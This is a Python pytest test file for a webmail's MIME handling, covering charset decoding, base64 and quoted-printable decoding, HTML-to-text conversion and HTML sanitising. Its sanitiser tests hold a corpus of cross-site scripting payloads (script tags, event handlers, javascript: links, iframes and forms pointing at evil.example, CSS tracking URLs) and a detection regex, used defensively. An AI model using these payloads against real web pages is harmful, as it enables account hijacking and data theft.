"""Body text: transfer decoding, charsets, HTML to text, and HTML sanitising for the webmail."""

from __future__ import annotations

import base64
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from yunmail.mime import decode_text, decode_transfer_encoding, html_to_text, sanitize_html

# --- charsets ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "charset", "expected"),
    [
        ("你好".encode("gbk"), "gb2312", "你好"),  # GB2312 label, GBK bytes: decoded as GB18030
        ("你好".encode("gbk"), "GBK", "你好"),
        ("你好".encode("gb18030"), "x-gbk", "你好"),
        ("你好".encode(), "utf-8", "你好"),
        ("你好".encode(), None, "你好"),  # undeclared: utf-8 first
        ("你好".encode("gbk"), None, "你好"),  # then gb18030
        ("你好".encode(), "us-ascii", "你好"),  # mislabelled as ASCII
        ("你好".encode("gbk"), "utf-8", "你好"),  # mislabelled as UTF-8
        ("café".encode("latin-1"), "iso-8859-1", "café"),
        ("繁體".encode("big5"), "big5", "繁體"),
        ("한국".encode("euc-kr"), "ks_c_5601-1987", "한국"),
        (b"plain ascii", "no-such-charset", "plain ascii"),
        ("你好".encode(), "no-such-charset", "你好"),
    ],
)
def test_decode_text(data: bytes, charset: str | None, expected: str) -> None:
    assert decode_text(data, charset) == expected


@pytest.mark.parametrize("charset", ["zlib", "base64", "rot13", "idna", "punycode", "unicode_escape", "bz2"])
def test_non_text_and_unsafe_codecs_are_refused(charset: str) -> None:
    assert decode_text(b"x\\u0041\xff", charset) == "x\\u0041ÿ"


def test_utf7_lone_surrogates_are_replaced() -> None:
    text = decode_text(b"+2D0- hi \xff", "utf-7")
    text.encode("utf-8")  # valid Unicode


@given(
    st.binary(max_size=200),
    st.sampled_from([None, "utf-8", "gb2312", "utf-16", "utf-7", "iso-2022-jp", "bogus"]),
)
def test_decode_text_never_raises_and_gives_valid_unicode(data: bytes, charset: str | None) -> None:
    decode_text(data, charset).encode("utf-8")


# --- transfer encodings ------------------------------------------------------------------------


def test_base64_is_decoded_leniently() -> None:
    encoded = base64.b64encode(b"hello world")
    assert decode_transfer_encoding(encoded, "base64") == b"hello world"
    assert decode_transfer_encoding(b"aGVs\r\nbG8g!!d29y bGQ", "base64") == b"hello world"  # junk ignored
    assert decode_transfer_encoding(b"aGVsbG8", "base64") == b"hello"  # missing padding
    assert decode_transfer_encoding(b"a", "base64") == b""


def test_quoted_printable_is_decoded_leniently() -> None:
    # RFC 2045 §6.7: soft line breaks; invalid escapes stay as they are
    assert decode_transfer_encoding(b"caf=C3=A9 =\r\nbar =ZZ", "quoted-printable") == "café bar =ZZ".encode()


def test_other_encodings_pass_through() -> None:
    assert decode_transfer_encoding(b"=41", "7bit") == b"=41"
    assert decode_transfer_encoding(b"=41", None) == b"=41"
    assert decode_transfer_encoding(b"=41", "x-uuencode") == b"=41"


# --- HTML to text --------------------------------------------------------------------------------


def test_html_to_text_keeps_words_and_block_breaks() -> None:
    source = (
        "<html><head><title>T</title><style>p{color:red}</style></head>"
        "<body><p>Hello&nbsp;<b>world</b></p><div>next &amp; last</div></body>"
    )
    assert html_to_text(source) == "Hello world\nnext & last"


def test_html_to_text_drops_scripts_and_comments() -> None:
    assert html_to_text("a<script>alert(1)</script>b<!-- hidden -->c<SCRIPT src=x>d</script >e") == "abce"


def test_html_to_text_unclosed_constructs_hide_the_rest() -> None:
    assert html_to_text("visible <!-- never closed <p>hidden") == "visible"
    assert html_to_text("visible <script>alert(1)") == "visible"


def test_html_to_text_keeps_comparison_signs() -> None:
    assert html_to_text("1 < 2 and 3 > 2") == "1 < 2 and 3 > 2"


def test_html_to_text_table_cells_are_separated() -> None:
    assert html_to_text("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>") == "a b\nc"


def test_html_to_text_limit() -> None:
    assert len(html_to_text("<p>word</p>" * 10_000, limit=50)) == 50


def test_html_to_text_chinese() -> None:
    assert html_to_text("<p>你好，<b>世界</b></p>") == "你好，世界"


# --- sanitising ------------------------------------------------------------------------------------

XSS_CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<form action="https://evil.example"><input name=p type=password><button>Go</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{background:url(https://evil.example/track.gif)}</style>",
    '<div style="background-image:url(https://evil.example/t.gif)">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>',
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    '<input autofocus onfocus="alert(1)">',
    '<div id="x" class="y" data-foo="bar">attrs</div>',
    "<!--<img src=x onerror=alert(1)>-->",
    '<a href="https://ok.example" target="_self" rel="opener">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
]

FORBIDDEN = re.compile(
    r"<\s*(script|iframe|object|embed|form|input|button|base|meta|link|style|svg|math)\b"
    r"|\son[a-z]+\s*="
    r"|javascript:|vbscript:|data:text|expression\(|url\(|position\s*:|srcdoc|\bid=|\bclass=",
    re.IGNORECASE,
)


@pytest.mark.parametrize("source", XSS_CORPUS)
def test_sanitize_html_removes_active_content(source: str) -> None:
    cleaned = sanitize_html(source).html
    assert FORBIDDEN.search(cleaned) is None, cleaned


def test_sanitize_html_blocks_remote_images_and_says_so() -> None:
    result = sanitize_html(
        '<p>hi</p><img src="https://tracker.example/p.gif" alt="pixel"><img src="//x.example/a.png">'
    )
    assert "tracker.example" not in result.html and "x.example" not in result.html
    assert result.remote_blocked
    assert "<p>hi</p>" in result.html


def test_sanitize_html_can_allow_or_proxy_remote_images() -> None:
    allowed = sanitize_html('<img src="https://img.example/a.png">', allow_remote_images=True)
    assert 'src="https://img.example/a.png"' in allowed.html and not allowed.remote_blocked
    proxied = sanitize_html(
        '<img src="https://img.example/a.png">', proxy_image=lambda url: "/proxy?u=" + url[8:]
    )
    assert 'src="/proxy?u=img.example/a.png"' in proxied.html and not proxied.remote_blocked


def test_sanitize_html_resolves_cid_images() -> None:
    result = sanitize_html(
        '<img src="cid:logo@x"><img src="cid:unknown">', resolve_cid={"logo@x": "/att/1.2"}.get
    )
    assert result.html.count("<img") == 2
    assert 'src="/att/1.2"' in result.html
    assert "cid:" not in result.html


def test_sanitize_html_data_images_are_optional() -> None:
    source = '<img src="data:image/png;base64,iVBORw0KGgo=">'
    assert "data:" not in sanitize_html(source).html
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in sanitize_html(source, allow_data_images=True).html
    assert (
        "data:" not in sanitize_html('<a href="data:image/png;base64,x">x</a>', allow_data_images=True).html
    )


def test_sanitize_html_links_open_safely() -> None:
    cleaned = sanitize_html('<a href="https://example.com/x">link</a> <a href="mailto:a@b.c">mail</a>').html
    assert cleaned.count('rel="noopener noreferrer"') == 2
    assert cleaned.count('target="_blank"') == 2
    assert 'href="https://example.com/x"' in cleaned and 'href="mailto:a@b.c"' in cleaned


def test_sanitize_html_removes_relative_urls() -> None:
    cleaned = sanitize_html('<a href="/api/account/delete">x</a><img src="/att/9"><a href="#top">t</a>').html
    assert "href" not in cleaned and "src" not in cleaned


def test_sanitize_html_keeps_formatting() -> None:
    source = (
        '<table border="1"><tr><td style="color: red; font-weight: bold">你好</td></tr></table>'
        '<font color="blue">x</font>'
    )
    cleaned = sanitize_html(source).html
    assert "<table" in cleaned and "<td" in cleaned and "你好" in cleaned
    assert "color:red" in cleaned.replace(" ", "")
    assert '<font color="blue">' in cleaned


def test_sanitize_html_drops_style_and_script_content() -> None:
    cleaned = sanitize_html("<style>.a{}</style><script>var x=1</script><title>t</title>text").html
    assert cleaned == "text"
